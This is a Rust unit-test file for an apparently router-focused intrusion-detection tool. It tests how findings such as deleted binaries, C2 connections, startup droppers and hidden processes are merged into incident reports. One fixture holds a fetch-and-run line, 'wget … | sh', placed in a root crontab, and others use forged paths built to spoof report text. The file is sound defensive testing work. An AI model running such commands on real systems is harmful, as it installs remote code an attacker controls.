use super::super::{CheckReport, Client, Looked, Parent, Severity};
use super::testing::{file_at, process_at};
use super::*;
use crate::facts::endpoint::Endpoint;
use crate::facts::process::Owner;

/// The checks of these tests, instead of the table of all.
const CHECKS_HERE: [&str; 24] = [
    "exe-known-bad",
    "c2-address",
    "c2-client",
    "dropped-elf",
    "exe-deleted",
    "exe-memfd",
    "exe-packed",
    "exe-unowned",
    "exe-volatile",
    "fake-kthread",
    "listener-odd",
    "name-mismatch",
    "name-random",
    "proc-overmount",
    "process-hidden",
    "raw-socket",
    "relay",
    "socket-shell",
    "startup-added",
    "startup-dropper",
    "startup-volatile",
    "tool-replaced",
    "traced",
    "tunnel-odd",
];

fn index(id: &str) -> Option<usize> {
    CHECKS_HERE.iter().position(|check| *check == id)
}

fn end(ip: [u8; 4], port: u16) -> Endpoint {
    Endpoint { ip: ip.into(), port }
}

/// `incident 1 infected: STORY` and the findings, as `  check path`, in the order in which they are told; what was not held
/// comes first.
fn told(findings: &[Finding<'_>]) -> (Vec<String>, u32) {
    let mut incidents = Box::new(Incidents::new());
    let mut lines = Vec::new();
    let line = |finding: &Finding<'_>| {
        format!("  {} {}", finding.check, String::from_utf8_lossy(finding.path).trim())
    };
    for finding in findings {
        assert!(index(finding.check).is_some(), "{}", finding.check);
        if !incidents.hold(&Event::Finding(*finding), &index) {
            lines.push(line(finding));
        }
    }
    let advice = |_: &str| Advice::PROGRAM;
    incidents.tell(&advice, &mut |told| match told {
        Told::Incident(it) => {
            assert!(!it.advice.is_empty() && !it.checks.is_empty() && it.findings > 0);
            let story = String::from_utf8_lossy(it.story);
            lines.push(format!("incident {} {}: {story}", it.number, it.severity.word()));
        }
        Told::Event(Event::Finding(finding)) => lines.push(line(finding)),
        Told::Event(_) => {}
    });
    (lines, incidents.unjoined())
}

fn stories(findings: &[Finding<'_>]) -> Vec<String> {
    let (mut lines, unjoined) = told(findings);
    assert_eq!(unjoined, 0);
    lines.retain(|line| line.starts_with("incident"));
    lines
}

/// Startup file, process from `/tmp`, connection.
fn attack<'a>(
    pid: u32,
    program: &'a [u8],
    startup: &'a [u8],
    runs: &'a [u8],
    remote: Endpoint,
) -> Vec<Finding<'a>> {
    let deleted = Finding { severity: Severity::Infected, ..process_at("exe-deleted", pid, program) };
    let mismatch = Finding {
        name: b"dropbear",
        detail: b"it claims to be dropbear, but its program is .x",
        ..process_at("name-mismatch", pid, program)
    };
    let speaks = Finding {
        severity: Severity::Infected,
        remote: Some(remote),
        family: b"Mirai",
        ..process_at("c2-address", pid, program)
    };
    let added =
        Finding { detail: b"the firmware image has no such file", ..file_at("startup-added", startup, 0) };
    let line = Finding { detail: runs, ..file_at("startup-volatile", startup, 3) };
    vec![added, line, deleted, mismatch, speaks]
}

#[test]
fn one_intruder_is_one_incident() {
    let findings = attack(
        812,
        b"/tmp/.x",
        b"/etc/rc.d/S99y",
        b"runs /tmp/.x in: /tmp/.x -d",
        end([203, 0, 113, 7], 443),
    );
    let expected = "incident 1 infected: pid 812 (/tmp/.x, deleted, calls itself dropbear), started by \
                    /etc/rc.d/S99y:3 (not in the image), speaks to 203.0.113.7:443 (listed: Mirai).";
    assert_eq!(stories(&findings), [expected]);
    let backwards: Vec<_> = findings.iter().rev().copied().collect();
    assert_eq!(told(&backwards), told(&findings), "whoever is looked at first");
    assert_eq!(told(&findings).0.len(), findings.len() + 1, "each is told once");
}

#[test]
fn of_several_processes_it_is_about_the_one_that_speaks() {
    let program = b"/tmp/.x";
    let gone = |pid| Finding {
        severity: Severity::Infected,
        detail: b"its file is gone",
        ..process_at("exe-deleted", pid, program)
    };
    let remote = Some(end([203, 0, 113, 7], 443));
    let speaks = Finding { remote, ..process_at("c2-address", 813, program) };
    let expected = "incident 1 infected: pid 813 (/tmp/.x, deleted) and 1 other process, speaks to 203.0.113.7:443 (listed).";
    assert_eq!(stories(&[gone(812), gone(813), speaks]), [expected]);
    // One that is accused of nothing else, and another program, which stays another's.
    let expected = "incident 1 infected: pid 813 (/tmp/.x) and 1 other process, speaks to 203.0.113.7:443 (listed); \
                    pid 812: its file is gone.";
    assert_eq!(stories(&[gone(812), speaks]), [expected]);
    let mut child = Finding { remote, ..process_at("c2-address", 900, b"/tmp/z") };
    child.parents[0].pid = 812;
    let of = |findings: &[Finding<'_>]| {
        let mut incidents = Box::new(Incidents::new());
        assert!(findings.iter().all(|finding| incidents.hold(&Event::Finding(*finding), &index)));
        let mut told = None;
        incidents.tell(&|_| Advice::PROGRAM, &mut |event| {
            if let Told::Incident(it) = event {
                told = Some((it.pid, it.remote));
            }
        });
        told
    };
    assert_eq!(of(&[gone(812), speaks]), Some((Some(813), remote)));
    assert_eq!(of(&[gone(812), child]), Some((Some(812), None)));
}

#[test]
fn two_intruders_are_two_incidents() {
    let mut findings =
        attack(812, b"/tmp/.x", b"/etc/rc.d/S99y", b"runs /tmp/.x in: /tmp/.x", end([203, 0, 113, 7], 443));
    findings.extend(attack(
        900,
        b"/tmp/z",
        b"/etc/rc.d/S98z",
        b"runs /tmp/z in: /tmp/z",
        end([198, 51, 100, 9], 80),
    ));
    assert_eq!(stories(&findings).len(), 2);
    // Both come from one file, at lines of their own.
    let mut findings =
        attack(812, b"/tmp/.x", b"/etc/rc.local", b"runs /tmp/.x in: /tmp/.x", end([203, 0, 113, 7], 443));
    let mut other =
        attack(900, b"/tmp/z", b"/etc/rc.local", b"runs /tmp/z in: /tmp/z", end([198, 51, 100, 9], 80));
    other[1].line = Some(9);
    findings.extend(&other[1..]);
    assert_eq!(stories(&findings).len(), 2, "{:?}", stories(&findings));
    // Until both speak to the same.
    findings
        .iter_mut()
        .filter(|it| it.remote.is_some())
        .for_each(|it| it.remote = Some(end([203, 0, 113, 7], 1)));
    assert_eq!(stories(&findings).len(), 1);
}

/// Everything that was started by a daemon that everybody uses, or by the first process.
#[test]
fn a_common_parent_glues_nothing_unless_it_is_the_intruder() {
    let child = |pid, path| {
        let mut child = Finding { severity: Severity::Infected, ..process_at("exe-deleted", pid, path) };
        child.parents[0] = Parent { pid: 871, name: b"dropbear" };
        child.parents[1] = Parent { pid: 1, name: b"procd" };
        child
    };
    let children = [child(900, b"/tmp/a"), child(901, b"/tmp/b")];
    assert_eq!(stories(&children).len(), 2);
    let with = |parent: Finding<'static>| stories(&[children[0], children[1], parent]).len();
    // It is accused of something else.
    let daemon = process_at("listener-odd", 871, b"/usr/sbin/dropbear");
    assert_eq!(with(Finding { owner: Some(Owner::Firmware), ..daemon }), 2);
    assert_eq!(with(Finding { owner: Some(Owner::Unknown), ..daemon }), 2);
    assert_eq!(
        with(Finding { owner: Some(Owner::Firmware), ..process_at("traced", 871, b"/usr/sbin/dropbear") }),
        2
    );
    assert_eq!(with(process_at("exe-deleted", 1, b"/tmp/init")), 2);
    assert_eq!(with(process_at("exe-unowned", 871, b"/usr/sbin/dropbear")), 1, "nobody's dropbear");
}

#[test]
fn programs_that_run_what_they_are_told_are_no_bond() {
    let shell = |pid, path, port| Finding {
        severity: Severity::Infected,
        owner: Some(Owner::Unknown),
        remote: Some(end([198, 51, 100, port], 1)),
        ..process_at("socket-shell", pid, path)
    };
    assert_eq!(stories(&[shell(5, b"/bin/busybox", 1), shell(6, b"/bin/busybox", 2)]).len(), 2);
    assert_eq!(stories(&[shell(5, b"/usr/bin/python3.11", 1), shell(6, b"/usr/bin/python3.11", 2)]).len(), 2);
    assert_eq!(stories(&[shell(5, b"/tmp/x", 1), shell(6, b"/tmp/x", 2)]).len(), 1);
    assert_eq!(stories(&[shell(5, b"", 1), shell(6, b"", 2)]).len(), 2, "no path is nobody's");
}

#[test]
fn one_file_under_several_names() {
    let listed = |detail, pid, path| Finding {
        severity: Severity::Infected,
        detail,
        ..process_at("exe-known-bad", pid, path)
    };
    let one = [b"the program that runs is listed: SHA-256 ".to_vec(), vec![b'a'; 64]].concat();
    let other = [&one[..one.len() - 1], b"b; the indicator has expired"].concat();
    assert_eq!(stories(&[listed(&one, 5, b"/tmp/a"), listed(&one, 6, b"/tmp/b")]).len(), 1);
    assert_eq!(stories(&[listed(&one, 5, b"/tmp/a"), listed(&other, 6, b"/tmp/b")]).len(), 2);
}

#[test]
fn a_clients_deeds_are_its_own() {
    let router =
        attack(812, b"/tmp/.x", b"/etc/rc.d/S99y", b"runs /tmp/.x in: x", end([203, 0, 113, 7], 443));
    let client = |name: &'static [u8], severity| Finding {
        client: Some(Client::Named(name)),
        remote: Some(end([203, 0, 113, 7], 443)),
        severity,
        family: b"Mirai",
        ..file_at("c2-client", b"", 0)
    };
    let mut all = router.clone();
    all.extend([client(b"lan-1", Severity::Infected), client(b"lan-2", Severity::Infected)]);
    all.push(Finding {
        detail: b"a client asked for a listed domain: x",
        ..client(b"lan-2", Severity::Suspicious)
    });
    let stories = stories(&all);
    assert_eq!(stories.len(), 3, "{stories:?}");
    assert!(
        stories.iter().any(|it| it.ends_with("client lan-1, speaks to 203.0.113.7:443 (listed: Mirai).")),
        "{stories:?}"
    );
}

#[test]
fn the_address_of_a_resolver_or_of_one_who_is_served_is_no_bond() {
    let resolver = Some(end([192, 0, 2, 53], 53));
    let notice = |check, pid| Finding {
        severity: Severity::Notice,
        remote: resolver,
        ..process_at(check, pid, b"/usr/sbin/dnsmasq")
    };
    let with = |check, pid, path| Finding {
        severity: Severity::Infected,
        remote: resolver,
        ..process_at(check, pid, path)
    };
    let found = [with("relay", 5, b"/tmp/a"), with("relay", 6, b"/tmp/b"), notice("c2-address", 7)];
    assert_eq!(stories(&found).len(), 2);
}

#[test]
fn notices_make_no_incident_and_bring_no_two_together() {
    let weak = |check, pid, path| Finding { severity: Severity::Notice, ..process_at(check, pid, path) };
    assert_eq!(
        stories(&[weak("exe-packed", 5, b"/usr/bin/x"), weak("name-random", 5, b"/usr/bin/x")]),
        [""; 0]
    );
    assert_eq!(stories(&[process_at("exe-unowned", 5, b"/usr/bin/x")]), [""; 0], "a lone one");
    let pair = [process_at("exe-unowned", 5, b"/usr/bin/x"), weak("exe-packed", 5, b"/usr/bin/x")];
    assert_eq!(stories(&pair).len(), 1);
    let bridge = Finding { remote: Some(end([203, 0, 113, 7], 80)), ..weak("c2-address", 5, b"/tmp/a") };
    let one = Finding { severity: Severity::Infected, ..process_at("exe-deleted", 5, b"/tmp/a") };
    let other = Finding {
        remote: bridge.remote,
        severity: Severity::Infected,
        ..process_at("c2-address", 6, b"/tmp/b")
    };
    assert_eq!(stories(&[one, bridge, other]).len(), 2);
}

/// What an owner may do, and what only an intruder does.
#[test]
fn agreement_raises_what_no_owner_does() {
    let line = Finding {
        detail: b"runs /tmp/vpn in: /tmp/vpn",
        ..file_at("startup-volatile", b"/etc/init.d/vpn", 2)
    };
    let owners = vec![
        file_at("startup-added", b"/etc/init.d/vpn", 0),
        line,
        process_at("exe-volatile", 5, b"/tmp/vpn"),
        process_at("listener-odd", 5, b"/tmp/vpn"),
        process_at("tunnel-odd", 5, b"/tmp/vpn"),
    ];
    let story = stories(&owners);
    assert!(story.len() == 1 && story[0].starts_with("incident 1 suspicious: "), "{story:?}");
    let mut intruders = owners.clone();
    intruders.push(Finding {
        name: b"ntpd",
        detail: b"it claims to be ntpd, but x",
        ..process_at("name-mismatch", 5, b"/tmp/vpn")
    });
    assert!(stories(&intruders)[0].starts_with("incident 1 infected: "));
    intruders.remove(1);
    intruders.remove(0);
    assert!(stories(&intruders)[0].starts_with("incident 1 suspicious: "), "nothing starts it again");
}

/// An owner's SSH server that runs from `/tmp`, and what was upgraded under a session of it.
#[test]
fn agreement_is_about_one_process() {
    let line = Finding {
        detail: b"runs /tmp/dropbear in: /tmp/dropbear -p 8888",
        ..file_at("startup-volatile", b"/etc/rc.local", 2)
    };
    let mut tool = process_at("exe-deleted", 900, b"/usr/bin/mytool");
    tool.detail = b"the program runs from a system place and its file was replaced by another";
    tool.parents[0] = Parent { pid: 870, name: b"dropbear" };
    let claims = Finding { name: b"ntpd", ..process_at("name-mismatch", 900, b"/usr/bin/mytool") };
    let claims = Finding { parents: tool.parents, ..claims };
    let found = [
        line,
        process_at("exe-volatile", 870, b"/tmp/dropbear"),
        process_at("listener-odd", 870, b"/tmp/dropbear"),
        tool,
    ];
    let is = |found: &[Finding<'_>], severity: &str| {
        let story = stories(found);
        assert!(story.len() == 1 && story[0].starts_with(&format!("incident 1 {severity}: ")), "{story:?}");
    };
    is(&found, "suspicious");
    // Whatever it is that another process does.
    is(&[found[0], found[1], found[2], claims], "suspicious");
    let own = Finding { name: b"ntpd", ..process_at("name-mismatch", 870, b"/tmp/dropbear") };
    is(&[found[0], found[1], found[2], own], "infected");
    // It started itself anew.
    is(&[found[0], found[1], found[2], Finding { pid: Some(871), ..own }], "infected");
    let other =
        Finding { detail: b"runs /tmp/vpn in: /tmp/vpn", ..file_at("startup-volatile", b"/etc/rc.local", 3) };
    is(
        &[other, found[1], found[2], own, tool, file_at("startup-added", b"/etc/init.d/dropbear", 0)],
        "infected",
    );
}

/// A program that an upgrade replaced is no disguise, and another disk or a directory behind a dot loses nothing.
#[test]
fn agreement_takes_what_the_four_say() {
    let severity = |path: &'static [u8], disguise: Finding<'static>| {
        let runs = [b"runs ", path, b" in: ", path].concat();
        let line = Finding { detail: &runs, ..file_at("startup-volatile", b"/etc/rc.local", 2) };
        let all = [
            line,
            process_at("exe-volatile", 5, path),
            process_at("listener-odd", 5, path),
            Finding { pid: Some(5), path, ..disguise },
        ];
        stories(&all)[0].split(' ').nth(2).unwrap().to_owned()
    };
    let claims = process_at("name-mismatch", 5, b"");
    let deleted = |detail| Finding { detail, ..process_at("exe-deleted", 5, b"") };
    let gone = deleted(b"the program runs from a volatile place and its file has been removed");
    let replaced = deleted(b"the program runs from a volatile place and its file was replaced by another");
    for path in [&b"/tmp/x"[..], b"/tmp/.x/y", b"/var/run/x"] {
        assert_eq!(severity(path, claims), "infected:");
        assert_eq!(severity(path, gone), "infected:");
        assert_eq!(severity(path, replaced), "suspicious:");
    }
    for path in [&b"/mnt/sda1/x"[..], b"/tmp/mnt/sda1/x", b"/usr/lib/.x/y"] {
        assert_eq!(severity(path, claims), "suspicious:");
    }
}

#[test]
fn what_hides_is_one() {
    let hidden = |pid| Finding {
        severity: Severity::Infected,
        path: b"",
        name: b"",
        ..process_at("process-hidden", pid, b"")
    };
    let tool = Finding { severity: Severity::Infected, ..file_at("tool-replaced", b"/bin/ps", 0) };
    assert_eq!(stories(&[hidden(5), hidden(6), tool]).len(), 1);
    let covered = Finding { severity: Severity::Infected, ..file_at("proc-overmount", b"/proc/812", 0) };
    assert_eq!(stories(&[covered, process_at("exe-volatile", 812, b"/tmp/x")]).len(), 1);
    let traced = Finding {
        detail: b"process 812 (x) traces it, program x",
        owner: Some(Owner::Firmware),
        ..process_at("traced", 873, b"/usr/sbin/dropbear")
    };
    assert_eq!(stories(&[traced, process_at("exe-volatile", 812, b"/tmp/x")]).len(), 1);
}

#[test]
fn a_line_and_what_it_fetches() {
    let line = Finding {
        severity: Severity::Infected,
        detail: b"a shell runs what is fetched in: wget -q -O - http://203.0.113.7/x.sh | sh",
        ..file_at("startup-dropper", b"/etc/crontabs/root", 1)
    };
    let speaks =
        Finding { remote: Some(end([203, 0, 113, 7], 443)), ..process_at("c2-address", 812, b"/usr/bin/x") };
    let story = stories(&[line, speaks]);
    assert_eq!(story.len(), 1);
    assert!(
        story[0].contains("started by /etc/crontabs/root:1, speaks to 203.0.113.7:443 (listed)"),
        "{story:?}"
    );
}

/// What a story says of one process is said of that one.
#[test]
fn a_story_puts_nothing_together_that_is_not() {
    let line = Finding {
        detail: b"runs /tmp/dropbear in: /tmp/dropbear -p 8888",
        ..file_at("startup-volatile", b"/etc/rc.local", 2)
    };
    let mut tool = process_at("exe-deleted", 900, b"/usr/bin/mytool");
    tool.severity = Severity::Infected;
    tool.detail = b"the program runs from a system place and its file was replaced by another";
    tool.parents[0] = Parent { pid: 870, name: b"dropbear" };
    let server = process_at("exe-volatile", 870, b"/tmp/dropbear");
    let speaks = Finding {
        remote: Some(end([203, 0, 113, 7], 443)),
        ..process_at("c2-address", 870, b"/tmp/dropbear")
    };
    let story = stories(&[line, tool, server, speaks]);
    let expected = "incident 1 infected: pid 900 (/usr/bin/mytool, replaced) and 1 other process, pid 870 speaks to \
                    203.0.113.7:443 (listed); /etc/rc.local:2: runs /tmp/dropbear in: /tmp/dropbear -p 8888.";
    assert_eq!(story, [expected]);
    let remote = |findings: &[Finding<'_>]| {
        let (mut incidents, mut remote) = (Box::new(Incidents::new()), None);
        findings.iter().for_each(|it| assert!(incidents.hold(&Event::Finding(*it), &index)));
        incidents.tell(&|_| Advice::default(), &mut |told| {
            if let Told::Incident(it) = told {
                remote = it.remote;
            }
        });
        remote
    };
    assert_eq!(remote(&[line, tool, server, speaks]), None);
    assert_eq!(remote(&[line, server, speaks]), speaks.remote);
    // Both speak: the one whom it is about is told.
    let own = Finding {
        remote: Some(end([198, 51, 100, 9], 80)),
        parents: tool.parents,
        ..process_at("c2-address", 900, b"/usr/bin/mytool")
    };
    assert_eq!(remote(&[line, tool, server, speaks, own]), own.remote);
}

/// A path that tells a story of its own.
#[test]
fn paths_forge_no_story() {
    let forged = Finding {
        severity: Severity::Infected,
        ..process_at("exe-deleted", 5, b"/tmp/x\", deleted), started by /etc/init.d/firewall")
    };
    let expected = "incident 1 infected: pid 5 (\"/tmp/x\"\", deleted), started by /etc/init.d/firewall\", deleted, shown \
                    as dropbear).";
    assert_eq!(stories(&[Finding { name: b"dropbear", ..forged }]), [expected]);
}

/// Names that an enemy chose, as long as they can be.
#[test]
fn hostile_names_stay_in_bounds() {
    let path = [b"/tmp/".to_vec(), vec![b'\n'; 4000]].concat();
    let name = [0x1b; 60];
    let detail = [b"it claims to be ".to_vec(), vec![b'"'; 900]].concat();
    let all: Vec<_> =
        ["exe-deleted", "exe-memfd", "name-mismatch", "fake-kthread", "listener-odd", "exe-packed"]
            .into_iter()
            .map(|check| Finding {
                name: &name,
                detail: &detail,
                family: &path[..500],
                remote: Some(end([255; 4], u16::MAX)),
                ..process_at(check, u32::MAX, &path)
            })
            .collect();
    let story = stories(&all);
    assert!(story.len() == 1 && story[0].contains("[cut 3905 bytes]"), "{story:?}");
    assert!(story[0].len() < STORY_BYTES && story[0].ends_with('.'), "{}", story[0].len());
}

/// More findings than are held: all are told, the worst are joined, and what is not is counted.
#[test]
fn a_flood_hides_nothing() {
    let paths: Vec<String> = (0..1000).map(|at| format!("/tmp/{at}")).collect();
    let mut findings: Vec<_> = paths.iter().map(|path| file_at("dropped-elf", path.as_bytes(), 0)).collect();
    findings.extend(attack(
        812,
        b"/tmp/.x",
        b"/etc/rc.d/S99y",
        b"runs /tmp/.x in: x",
        end([203, 0, 113, 7], 443),
    ));
    let (lines, unjoined) = told(&findings);
    let stories: Vec<_> = lines.iter().filter(|line| line.starts_with("incident")).collect();
    assert!(stories.len() == 1 && stories[0].contains("pid 812"), "{stories:?}");
    assert_eq!(lines.len(), findings.len() + 1);
    assert_eq!(usize::try_from(unjoined).unwrap(), 1000 - HELD_SHARE);
    // Notices are counted nowhere: they make no incident.
    let notices: Vec<_> = findings.iter().map(|it| Finding { severity: Severity::Notice, ..*it }).collect();
    assert_eq!((told(&notices).0.len(), told(&notices).1), (notices.len(), 0));
    // More intruders than incidents have room: the worst are told.
    let mut many: Vec<_> = paths[..10]
        .iter()
        .zip(20..)
        .map(|(path, pid)| Finding {
            severity: Severity::Infected,
            ..process_at("exe-deleted", pid, path.as_bytes())
        })
        .collect();
    many.push(process_at("exe-unowned", 20, paths[0].as_bytes()));
    let (lines, unjoined) = told(&many);
    let stories: Vec<_> = lines.iter().filter(|line| line.starts_with("incident")).collect();
    assert_eq!((stories.len(), unjoined), (crate::limits::INCIDENTS, 6));
    assert!(stories[0].contains("pid 20 "), "the one with two findings comes first: {stories:?}");
    assert_eq!(lines.len(), many.len() + stories.len());
}

/// Whatever an enemy fills the buffer with, what is worse than that is joined.
#[test]
fn a_flood_of_long_paths_does_not_push_out_the_worst() {
    let long: Vec<_> = (0..200_usize).map(|at| [b"/tmp/".to_vec(), vec![b'a'; 3000 + at]].concat()).collect();
    let checks = ["exe-volatile", "dropped-elf", "name-random", "listener-odd", "exe-unowned", "raw-socket"];
    let flood = long.iter().zip(2000..).zip(checks.into_iter().cycle());
    let mut findings: Vec<_> = flood.map(|((path, pid), check)| process_at(check, pid, path)).collect();
    findings.extend(attack(
        812,
        b"/tmp/.x",
        b"/etc/rc.d/S99y",
        b"runs /tmp/.x in: x",
        end([203, 0, 113, 7], 443),
    ));
    let (lines, unjoined) = told(&findings);
    let stories: Vec<_> = lines.iter().filter(|line| line.starts_with("incident")).collect();
    assert!(stories[0].contains("pid 812 (/tmp/.x, deleted") && unjoined > 100, "{stories:?} {unjoined}");
    assert_eq!(lines.len(), findings.len() + stories.len());
}

#[test]
fn verdicts_come_behind_findings_and_a_run_forgets_the_last() {
    let mut incidents = Box::new(Incidents::new());
    let report = CheckReport { check: "relay", looked: Looked::No, why: b"x", facts: 0, findings: 0 };
    let finding = Event::Finding(process_at("exe-unowned", 5, b"/usr/bin/x"));
    assert!(incidents.hold(&Event::Check(report), &index) && incidents.hold(&finding, &index));
    assert!(!incidents.hold(&Event::End, &index), "it has to be told at once");
    let order = |incidents: &mut Incidents| {
        let mut order = String::new();
        incidents.tell(&|_| Advice::default(), &mut |told| {
            order.push(match told {
                Told::Incident(_) => 'i',
                Told::Event(Event::Finding(_)) => 'f',
                Told::Event(_) => 'v',
            });
        });
        order
    };
    assert_eq!(order(&mut incidents), "fv");
    incidents.clear();
    assert_eq!((order(&mut incidents).as_str(), incidents.unjoined()), ("", 0));
}
